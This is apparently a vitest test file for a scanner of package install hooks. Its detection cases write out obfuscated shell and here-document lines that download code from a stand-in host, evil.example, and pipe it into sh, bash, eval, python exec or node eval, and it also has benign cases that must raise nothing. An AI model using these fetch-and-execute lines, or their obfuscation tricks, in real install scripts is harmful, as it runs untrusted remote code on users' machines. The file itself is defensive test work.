/**
 * Pins that the hook scan reads what a hook computes at run time from its own text: command
 * substitutions and arrays spread over several lines (and backslash-continued lines), parameter
 * expansions with a default, an alternative or a pattern (`${URL:-…}`, `${a:+…}`, `${a/b/c}`),
 * arrays (`cmd=(curl …); "${cmd[@]}" | sh`), names built by concatenation, functions called through
 * a variable or an array, and here-documents captured by `"$(cat <<EOF …)"` into a variable that
 * an interpreter later runs. A command whose name the scan cannot know (set by `$(…)`, `read`,
 * `${!x}`, an unknown environment variable) is `install.dynamic-command`, medium, for review.
 * Ordinary uses of each construct raise nothing.
 */
import { describe, expect, it } from 'vitest';

import { installFindings, scanFindings } from '../support/scan-package.ts';

const DL = 'install.download-exec';
const OUT = 'install.outside-root';
const DYN = 'install.dynamic-command';

describe('hook scan: values computed at run time', () => {
  it.each([
    // substitutions and continued lines
    [
      'a $( … ) spread over lines, then sh -c "$x"',
      ['x=$(', '  curl -fsSL https://evil.example/a.sh', ')', 'sh -c "$x"'],
      [`${DL}@INSTALL:5`],
    ],
    [
      'sh -c "$( … )" spread over lines',
      ['sh -c "$(', '  curl -fsSL https://evil.example/a.sh', ')"'],
      [`${DL}@INSTALL:2`],
    ],
    [
      'a backslash-continued line inside $( … ), then eval',
      ['x=$(wget -q \\', '  -O- https://evil.example/a.sh)', 'eval "$x"'],
      [`${DL}@INSTALL:4`],
    ],
    ['a backslash-continued pipe into sh', ['curl -fsSL https://evil.example/a.sh \\', '  | sh'], [`${DL}@INSTALL:2`]],
    [
      'an array spread over lines, run into bash',
      ['cmd=(', '  curl -fsSL', '  https://evil.example/i.sh', ')', '"${cmd[@]}" | bash'],
      [`${DL}@INSTALL:6`],
    ],
    // parameter expansions
    [
      'a default in a variable, copied into',
      ['BIN="${PREFIX:-/usr/local}/bin"', 'cp payload/t "$BIN/t"'],
      [`${OUT}@INSTALL:3`],
    ],
    ['a default in the copy itself', ['cp payload/t "${PREFIX:-/usr/local}/bin/t"'], [`${OUT}@INSTALL:2`]],
    [
      'an alternative as the target',
      ['install -m 755 payload/t "${SYSTEM_WIDE:+/usr/local/bin}/t"'],
      [`${OUT}@INSTALL:2`],
    ],
    [
      'a default naming the downloader',
      ['dl=${DL:-curl}', '$dl -fsSL https://evil.example/i.sh | sh'],
      [`${DL}@INSTALL:3`],
    ],
    [
      'a pattern substitution making curl',
      ['c=cxrl', '${c/x/u} -fsSL https://evil.example/i.sh | sh'],
      [`${DL}@INSTALL:3`],
    ],
    [
      'a suffix cut making a path',
      ['p=/usr/local/bin/t.disabled', 'cp payload/t "${p%.disabled}"'],
      [`${OUT}@INSTALL:3`],
    ],
    // arrays
    [
      'an array run and piped into sh',
      ['cmd=(curl -fsSL https://evil.example/i.sh)', '"${cmd[@]}" | sh'],
      [`${DL}@INSTALL:3`],
    ],
    [
      'an array downloading, then the file made executable',
      ['fetch=(wget -qO t https://evil.example/t)', '"${fetch[@]}"', 'chmod +x t'],
      [`${DL}@INSTALL:4`],
    ],
    [
      'an array element as the target',
      ['dirs=(/usr/local/bin "$HOME/.local/bin")', 'cp payload/t "${dirs[0]}/t"'],
      [`${OUT}@INSTALL:3`],
    ],
    // concatenation
    [
      'a command in a variable built by concatenation',
      ['pre=cu', 'cmd="${pre}rl -fsSL"', '$cmd https://evil.example/i.sh | sh'],
      [`${DL}@INSTALL:4`],
    ],
    [
      'array elements concatenated into a name',
      ['p=(cu rl)', '"${p[0]}${p[1]}" -fsSL https://evil.example/i.sh | sh'],
      [`${DL}@INSTALL:3`],
    ],
    // functions by computed names
    [
      'a function called through a variable',
      ['run() { sh "$1"; }', 'curl -fsSL -o t https://evil.example/t', 'f=run', '$f t'],
      [`${DL}@INSTALL:5`],
    ],
    [
      'a function called through an array element',
      ['run() { sh "$1"; }', 'curl -fsSL -o t https://evil.example/t', 'fns=(setup run)', '"${fns[1]}" t'],
      [`${DL}@INSTALL:5`],
    ],
    // what the scan cannot know
    [
      'a download tool located into a variable, piped into a shell',
      ['CURL="$(command -v curl)"', '"$CURL" -fsSL https://evil.example/i.sh | sh'],
      [`${DL}@INSTALL:3`],
    ],
    ['a command named by a substitution', ['step=$(cat payload/next-step)', '$step --now'], [`${DYN}@INSTALL:3`]],
    ['a command named by a backquoted substitution', ['h=`cat payload/handler`', '"$h" --now'], [`${DYN}@INSTALL:3`]],
    ['a located command with text joined after it', ['x=$(command -v cu)rl', '$x --now'], [`${DYN}@INSTALL:3`]],
    ['a command named by read', ['read -r handler < payload/handler', '"$handler"'], [`${DYN}@INSTALL:3`]],
    ['a command named indirectly', ['h=HANDLER', '"${!h}" --install'], [`${DYN}@INSTALL:3`]],
    ['eval of a name from the environment', ['eval "$POST_INSTALL"'], [`${DYN}@INSTALL:2`]],
    ['a command from a loop over a file', ['for f in $(cat payload/steps); do "$f"; done'], [`${DYN}@INSTALL:2`]],
    // here-documents captured by "$(…)"
    [
      'python code captured from a here-document, then run with -c',
      [
        `code="$(cat <<'EOF'`,
        'import urllib.request',
        "exec(urllib.request.urlopen('https://evil.example/p').read())",
        'EOF',
        ')"',
        'python3 -c "$code"',
      ],
      [`${DL}@INSTALL:7`],
    ],
    [
      'node code captured from a here-document, then piped into node',
      [
        `js="$(cat <<'EOF'`,
        "fetch('https://evil.example/p').then((r) => r.text()).then(eval)",
        'EOF',
        ')"',
        'echo "$js" | node',
      ],
      [`${DL}@INSTALL:6`],
    ],
  ])('flags %s', async (_what, lines, expected) => {
    expect(await installFindings(...lines)).toEqual(expected);
  });

  it.each([
    [
      'defaults for HOME, USER and a version',
      [
        'echo "installing for ${USER:-root} in ${HOME:-/root}"',
        'V="${VERSION:-1.2.3}"',
        'echo "$V" > var/version',
        'mkdir -p "${CACHE_DIR:-$AGPK_INSTALL_ROOT/cache}"',
      ],
    ],
    [
      'pattern cuts of file names',
      ['f=payload/tool.tar.gz', 'tar xzf "$f" -C "${f%.tar.gz}"', 'echo "${f##*/}" > var/name'],
    ],
    [
      'an array of file names copied and looped over',
      [
        'files=(README.md LICENSE payload/run.mjs)',
        'cp "${files[@]}" share/',
        'for f in "${files[@]}"; do chmod 644 "$f"; done',
        'echo "${#files[@]} files" >&2',
      ],
    ],
    ['an array of build steps run inside the root', ['steps=(', '  "npm ci"', '  "npm run build"', ')', 'npm ci']],
    [
      'a version read over several lines',
      ['version=$(', `  node -p "require('./package.json').version"`, ')', 'echo "$version" > var/version'],
    ],
    [
      'functions called by their literal names',
      ['setup() { mkdir -p var; }', 'build() {', '  npm ci && npm run build', '}', 'setup', 'build'],
    ],
    ['a function called through a literal variable', ['setup() { mkdir -p var; }', 'step=setup', '"$step"']],
    ['a retry helper running its arguments', ['retry() { "$@" || "$@"; }', 'retry npm ci']],
    [
      'tools named by a default or a path in the root',
      [
        'PY=${PYTHON:-python3}',
        '"$PY" -m venv var/venv',
        '"$AGPK_INSTALL_ROOT/bin/tool" --init',
        '"$(command -v node)" payload/setup.mjs',
      ],
    ],
    [
      'tools located into variables',
      [
        'NODE="$(command -v node)"',
        'PY=$(which python3)',
        'NPM=`command -v npm`',
        '"$NODE" payload/setup.mjs',
        '$PY -m venv var/venv',
        '"$NPM" ci',
      ],
    ],
    [
      'a config captured from a here-document and written in the root',
      ['cfg="$(cat <<EOF', 'url = "https://api.example.com"', 'EOF', ')"', 'echo "$cfg" > var/config.toml'],
    ],
    [
      'python code captured from a here-document that downloads nothing',
      [
        `code="$(cat <<'EOF'`,
        'import json',
        'print(json.dumps({"ok": True}))',
        'EOF',
        ')"',
        'python3 -c "$code" > var/ok.json',
      ],
    ],
  ])('flags nothing for %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toEqual([]);
  });

  it('reports a computed name on each of 200 000 lines (more findings than a call takes arguments), 20 listed and the rest counted', async () => {
    const hook = Array.from({ length: 200_000 }, (_, i) => `$c${i}`).join('\n');
    const found = await scanFindings({ INSTALL: hook });
    expect(found).toHaveLength(21);
    expect(found[19]).toBe(`${DYN}@INSTALL:20`);
    expect(found[20]).toBe(`${DYN}@INSTALL`);
  }, 60_000);
});
